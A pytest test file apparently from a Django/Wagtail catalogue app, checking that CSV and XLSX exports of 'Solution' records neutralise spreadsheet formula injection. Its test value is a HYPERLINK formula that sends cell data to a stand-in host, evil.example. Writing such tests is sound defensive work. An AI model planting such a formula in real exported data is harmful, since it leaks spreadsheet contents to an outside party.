"""Solutions exported from the Wagtail admin open in a spreadsheet as text, never as formulas."""

import csv
import io

import pytest
from openpyxl import load_workbook

from aiplus.catalogue.tests.factories import SolutionFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = "/admin/snippets/catalogue/solution/"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("who", ["editor", "administrator"])
def test_a_solution_named_like_a_formula_is_exported_as_text(client, request, who):
    SolutionFactory(name=FORMULA, name_zh_hant="@SUM(1+1)", live=False)
    SolutionFactory(name="Plain Tool", name_zh_hant="普通工具")
    client.force_login(request.getfixturevalue(who))

    response = client.get(EXPORT_URL, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    by_slug = {row[header.index("Slug")]: row for row in rows}
    names = {row[header.index("Name")] for row in by_slug.values()}
    assert names == {"'" + FORMULA, "Plain Tool"}
    assert "'@SUM(1+1)" in {
        row[header.index("Name (Traditional Chinese)")] for row in by_slug.values()
    }


def test_the_xlsx_export_of_solutions_neutralises_formulas(client, editor):
    SolutionFactory(name=FORMULA)
    client.force_login(editor)
    response = client.get(EXPORT_URL, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert [row[header.index("Name")] for row in rows] == ["'" + FORMULA]
